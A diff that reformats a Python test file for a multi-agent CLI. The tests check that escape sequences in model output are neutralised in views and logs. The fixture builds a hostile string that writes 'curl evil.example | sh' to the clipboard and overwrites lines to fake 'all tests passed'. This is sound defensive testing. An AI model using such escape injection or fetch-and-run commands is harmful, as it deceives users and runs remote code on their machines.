@@ -40,8 +40,7 @@ from tests.support.teams import cli, lead_args
 from tests.support.waiting import wait_until
 
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
-HOSTILE = ("\x1b[2J\x1b[Hseen" + CLIPBOARD + " text\rall tests passed\x07"
-           "\x1b]0;pwned\x1b\\ end")
+HOSTILE = "\x1b[2J\x1b[Hseen" + CLIPBOARD + " text\rall tests passed\x07\x1b]0;pwned\x1b\\ end"
 """Clear the screen, write the clipboard, overwrite the line, ring, retitle the window."""
 SHOWN = "seen text all tests passed  end"
 """What a person sees of it: the words, with spaces for the carriage return and the bell."""
@@ -61,42 +60,84 @@ def assert_printable(result: Result) -> None:
 def run_team(path: Path, models: dict[str, str]) -> Path:
     """Two members, planner and synthesizer, every one of them on the marked workers."""
     queue = f'queue = "{MARKED_QUEUE}"'
-    path.write_text("\n".join([
-        'team_id = "terminal"',
-        f'planner = {{ model = "{models["planner"]}", {queue} }}',
-        f'synthesizer = {{ model = "{models["synth"]}", {queue} }}',
-        "[[members]]", 'id = "m1"', f'model = "{models["m1"]}"', queue,
-        "[[members]]", 'id = "m2"', f'model = "{models["m2"]}"', queue,
-        "[options]", "max_attempts = 1", "model_max_retries = 0"]) + "\n")
+    path.write_text(
+        "\n".join(
+            [
+                'team_id = "terminal"',
+                f'planner = {{ model = "{models["planner"]}", {queue} }}',
+                f'synthesizer = {{ model = "{models["synth"]}", {queue} }}',
+                "[[members]]",
+                'id = "m1"',
+                f'model = "{models["m1"]}"',
+                queue,
+                "[[members]]",
+                'id = "m2"',
+                f'model = "{models["m2"]}"',
+                queue,
+                "[options]",
+                "max_attempts = 1",
+                "model_max_retries = 0",
+            ]
+        )
+        + "\n"
+    )
     return path
 
 
 def test_no_model_text_acts_on_the_terminal_in_the_run_views(
-        llm: ScriptedLLM, marked_workers: MarkedWorkers, run_id: str, tmp_path: Path) -> None:
+    llm: ScriptedLLM, marked_workers: MarkedWorkers, run_id: str, tmp_path: Path
+) -> None:
     url = marked_workers.redis_url
-    plan = {"tasks": [{"id": "collect", "memberId": "m1", "task": f"Collect {HOSTILE}"},
-                      {"id": "check", "memberId": "m2", "task": "Check it"}]}
+    plan = {
+        "tasks": [
+            {"id": "collect", "memberId": "m1", "task": f"Collect {HOSTILE}"},
+            {"id": "check", "memberId": "m2", "task": "Check it"},
+        ]
+    }
     models = {
         "planner": llm.script(f"plan-{run_id}", [json.dumps(plan)]),
-        "m1": llm.script(f"m1-{run_id}", [
-            ToolCalls([("team_send_message", {"toMemberId": "m2", "content": HOSTILE})]),
-            f"output {HOSTILE}"]),
+        "m1": llm.script(
+            f"m1-{run_id}",
+            [
+                ToolCalls([("team_send_message", {"toMemberId": "m2", "content": HOSTILE})]),
+                f"output {HOSTILE}",
+            ],
+        ),
         "m2": llm.script(f"m2-{run_id}", [HttpError(400, f"bad request {HOSTILE}")]),
-        "synth": llm.script(f"synth-{run_id}", [f"answer {HOSTILE}"])}
+        "synth": llm.script(f"synth-{run_id}", [f"answer {HOSTILE}"]),
+    }
     team = run_team(tmp_path / "team.toml", models)
 
-    ran = CliRunner().invoke(main, [
-        "run", "Collect and check", "--team", str(team), "--api-base", llm.api_base,
-        "--redis-url", url, "--workers", "0", "--run-id", run_id, "--approve-plan"])
+    ran = CliRunner().invoke(
+        main,
+        [
+            "run",
+            "Collect and check",
+            "--team",
+            str(team),
+            "--api-base",
+            llm.api_base,
+            "--redis-url",
+            url,
+            "--workers",
+            "0",
+            "--run-id",
+            run_id,
+            "--approve-plan",
+        ],
+    )
 
     assert ran.exit_code != 0, ran.output  # m2 failed: a partial answer
     assert_printable(ran)
     assert ran.stdout == f"answer {SHOWN}\n"
     assert "task check (m2) failed after 1 attempt: " in ran.stderr
-    views = {verb: CliRunner().invoke(main, [verb, run_id, "--redis-url", url])
-             for verb in ("status", "tasks", "messages", "events")}
+    views = {
+        verb: CliRunner().invoke(main, [verb, run_id, "--redis-url", url])
+        for verb in ("status", "tasks", "messages", "events")
+    }
     views["tasks --follow"] = CliRunner().invoke(
-        main, ["tasks", run_id, "--follow", "--redis-url", url])
+        main, ["tasks", run_id, "--follow", "--redis-url", url]
+    )
     views["runs"] = CliRunner().invoke(main, ["runs", "--redis-url", url, "--limit", "200"])
     for verb, shown in views.items():
         assert shown.exit_code in (0, 1), (verb, shown.output)
@@ -109,8 +150,11 @@ def test_no_model_text_acts_on_the_terminal_in_the_run_views(
     as_json = CliRunner().invoke(main, ["messages", run_id, "--redis-url", url, "--json"])
     contents = [json.loads(line)["content"] for line in as_json.stdout.splitlines()]
     assert HOSTILE in contents and "\x1b" not in as_json.stdout
-    assert_marker_kept(llm, redis.Redis.from_url(url),  # bytes: RQ's job data is binary
-                       [tmp_path / "state", marked_workers.log_dir])
+    assert_marker_kept(
+        llm,
+        redis.Redis.from_url(url),  # bytes: RQ's job data is binary
+        [tmp_path / "state", marked_workers.log_dir],
+    )
 
 
 class Lead:
@@ -119,36 +163,73 @@ class Lead:
 
     def __call__(self, body: dict[str, Any]) -> ToolCalls | str:
         if not any(m.get("role") == "tool" for m in body["messages"]):
-            return ToolCalls([("create_task", {"subject": f"Write {HOSTILE}",
-                                               "role": f"nobody{HOSTILE}"}),
-                              ("no_such_tool" + HOSTILE, {})])
+            return ToolCalls(
+                [
+                    ("create_task", {"subject": f"Write {HOSTILE}", "role": f"nobody{HOSTILE}"}),
+                    ("no_such_tool" + HOSTILE, {}),
+                ]
+            )
         return f"lead says {HOSTILE}"
 
 
 def test_no_model_text_acts_on_the_terminal_in_the_team_views(
-        llm: ScriptedLLM, marked_workers: MarkedWorkers, team: str, tmp_path: Path) -> None:
+    llm: ScriptedLLM, marked_workers: MarkedWorkers, team: str, tmp_path: Path
+) -> None:
     url = marked_workers.redis_url
     conn = redis.Redis.from_url(url, decode_responses=True)
-    eve = llm.script(f"eve-{team}", [
-        ToolCalls([("send_message", {"to": LEAD, "content": HOSTILE})]), f"done {HOSTILE}"])
+    eve = llm.script(
+        f"eve-{team}",
+        [ToolCalls([("send_message", {"to": LEAD, "content": HOSTILE})]), f"done {HOSTILE}"],
+    )
     lead = llm.script(f"lead-{team}", handler=Lead())
     store = TeamStore(conn, team)
-    store.spawn("eve", role="scout", prompt="Report.", model=eve, api_base=llm.api_base,
-                queue=MARKED_QUEUE)
+    store.spawn(
+        "eve", role="scout", prompt="Report.", model=eve, api_base=llm.api_base, queue=MARKED_QUEUE
+    )
     wait_until(lambda: store.get("eve").status is TeammateStatus.IDLE, 60, message="eve idle")
     shown_mail = cli("team", "inbox", LEAD, "-t", team, "--redis-url", url)
 
-    led = cli("lead", "-t", team, "--redis-url", url, "--workers", "0", "--model", lead,
-              "--api-base", llm.api_base, "-m", "Plan the work.", "--until-idle")
+    led = cli(
+        "lead",
+        "-t",
+        team,
+        "--redis-url",
+        url,
+        "--workers",
+        "0",
+        "--model",
+        lead,
+        "--api-base",
+        llm.api_base,
+        "-m",
+        "Plan the work.",
+        "--until-idle",
+    )
 
     assert led.exit_code == 0, led.output
     assert_printable(led)
     assert f"lead says {SHOWN}" in led.stdout
     assert "teamctl lead: create_task: ok" in led.stderr
-    views = {"inbox": shown_mail,
-             "repl": CliRunner().invoke(main, [
-                 "lead", "-t", team, "--redis-url", url, "--workers", "0", "--model", lead,
-                 "--api-base", llm.api_base], input="/team\n/inbox\n/tasks\n/requests\n/quit\n")}
+    views = {
+        "inbox": shown_mail,
+        "repl": CliRunner().invoke(
+            main,
+            [
+                "lead",
+                "-t",
+                team,
+                "--redis-url",
+                url,
+                "--workers",
+                "0",
+                "--model",
+                lead,
+                "--api-base",
+                llm.api_base,
+            ],
+            input="/team\n/inbox\n/tasks\n/requests\n/quit\n",
+        ),
+    }
     for verb in (["list"], ["messages"], ["task", "list"], ["requests"]):
         views[" ".join(verb)] = cli("team", *verb, "-t", team, "--redis-url", url)
     for verb, shown in views.items():
@@ -158,8 +239,11 @@ def test_no_model_text_acts_on_the_terminal_in_the_team_views(
     assert f"eve -> lead: {SHOWN}" in views["messages"].stdout
     assert f"Write {ONE_LINE}" in views["task list"].stdout
     assert f"Write {ONE_LINE}" in views["repl"].stdout
-    assert_marker_kept(llm, redis.Redis.from_url(url),  # bytes: RQ's job data is binary
-                       [tmp_path / "state", marked_workers.log_dir])
+    assert_marker_kept(
+        llm,
+        redis.Redis.from_url(url),  # bytes: RQ's job data is binary
+        [tmp_path / "state", marked_workers.log_dir],
+    )
 
 
 def plant_file_in_a_folders_way(conn: redis.Redis, keys: KeySpace) -> None:
@@ -179,8 +263,8 @@ def assert_quoted_in_log(log: str, *texts: str) -> None:
 
 
 def test_no_model_text_acts_on_the_terminal_through_a_workers_log(
-        llm: ScriptedLLM, redis_url: str, run_id: str, tmp_path: Path,
-        monkeypatch: pytest.MonkeyPatch) -> None:
+    llm: ScriptedLLM, redis_url: str, run_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A member's mirror cannot put a file a model named with escapes, and its Python tool
     raises with the model's escapes: `teamctl worker` logs both, quoted, and RQ's own lines
     once each."""
@@ -189,12 +273,19 @@ def test_no_model_text_acts_on_the_terminal_through_a_workers_log(
     conn = redis.Redis.from_url(redis_url)
     reason = f"bad input {HOSTILE}"
     plan = Held(json.dumps({"tasks": [{"id": "a", "memberId": "m1", "task": "Use the tool"}]}))
-    models = {"planner": llm.script(f"plan-{run_id}", [plan]),
-              "member": llm.script(f"member-{run_id}", [
-                  ToolCalls([("explode", {"reason": reason})]), "it exploded"]),
-              "synth": llm.script(f"synth-{run_id}", ["done"])}
-    team = team_file(tmp_path / "t.toml", models, queue=queue, members=[
-        {"id": "m1", "queue": queue, "tools": ["tests.pytools_fixture.tools:explode"]}])
+    models = {
+        "planner": llm.script(f"plan-{run_id}", [plan]),
+        "member": llm.script(
+            f"member-{run_id}", [ToolCalls([("explode", {"reason": reason})]), "it exploded"]
+        ),
+        "synth": llm.script(f"synth-{run_id}", ["done"]),
+    }
+    team = team_file(
+        tmp_path / "t.toml",
+        models,
+        queue=queue,
+        members=[{"id": "m1", "queue": queue, "tools": ["tests.pytools_fixture.tools:explode"]}],
+    )
 
     def planted() -> bool:  # before the member's mirror opens: the plan waits for it
         if not RunStore(conn, RunKeys(run_id)).exists():
@@ -203,9 +294,14 @@ def test_no_model_text_acts_on_the_terminal_through_a_workers_log(
         return True
 
     release_when(plan, planted)
-    worker = subprocess.Popen([*TEAMCTL, "worker", queue, "--redis-url", redis_url],
-                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
-                              stderr=subprocess.PIPE, text=True, start_new_session=True)
+    worker = subprocess.Popen(
+        [*TEAMCTL, "worker", queue, "--redis-url", redis_url],
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
     try:
         ran = run_cli(llm, redis_url, run_id, team)
     finally:
@@ -221,29 +317,38 @@ def test_no_model_text_acts_on_the_terminal_through_a_workers_log(
 
 
 def test_no_model_text_acts_on_the_terminal_through_the_leads_log(
-        llm: ScriptedLLM, redis_url: str, team: str) -> None:
+    llm: ScriptedLLM, redis_url: str, team: str
+) -> None:
     """The lead's mirror of the team's workspace cannot put a file a model named with escapes:
     `teamctl lead` logs it, quoted, like its other lines."""
     conn = redis.Redis.from_url(redis_url)
-    store = TeamStore(redis.Redis.from_url(redis_url, decode_responses=True), team,
-                      workspace_store="redis")
+    store = TeamStore(
+        redis.Redis.from_url(redis_url, decode_responses=True), team, workspace_store="redis"
+    )
     store.create(TeamOptions(lead_tools=["read_file"]))
     plant_file_in_a_folders_way(conn, store.keys)
     lead = llm.script(f"lead-{team}", ["noted"])
 
-    led = subprocess.run([*TEAMCTL, *lead_args(redis_url, team, lead, llm.api_base,
-                                               "-m", "Anything new?")],
-                         capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
+    led = subprocess.run(
+        [*TEAMCTL, *lead_args(redis_url, team, lead, llm.api_base, "-m", "Anything new?")],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        stdin=subprocess.DEVNULL,
+    )
 
     assert led.returncode == 0, led.stderr
     assert led.stdout == "noted\n"
     assert_quoted_in_log(led.stderr, FOLDER)
-    assert (f"teamctl: workspace file {FOLDER!r} not materialized: {FOLDER!r} is a directory"
-            in led.stderr.splitlines())
+    assert (
+        f"teamctl: workspace file {FOLDER!r} not materialized: {FOLDER!r} is a directory"
+        in led.stderr.splitlines()
+    )
 
 
 def test_litellms_records_reach_the_printable_log_lines_once(
-        capsys: pytest.CaptureFixture[str]) -> None:
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     """litellm brings a stderr handler of its own: in a process that logs through teamctl's
     (the CLI, a worker), loading litellm takes it off, so its records are printable and once."""
     root = logging.getLogger()
@@ -258,5 +363,6 @@ def test_litellms_records_reach_the_printable_log_lines_once(
 
     assert capsys.readouterr().err == f"LiteLLM: the provider said {SHOWN}\n"
     for name in LITELLM_LOGGERS:
-        assert [h for h in logging.getLogger(name).handlers
-                if isinstance(h, logging.StreamHandler)] == [], name
+        assert [
+            h for h in logging.getLogger(name).handlers if isinstance(h, logging.StreamHandler)
+        ] == [], name
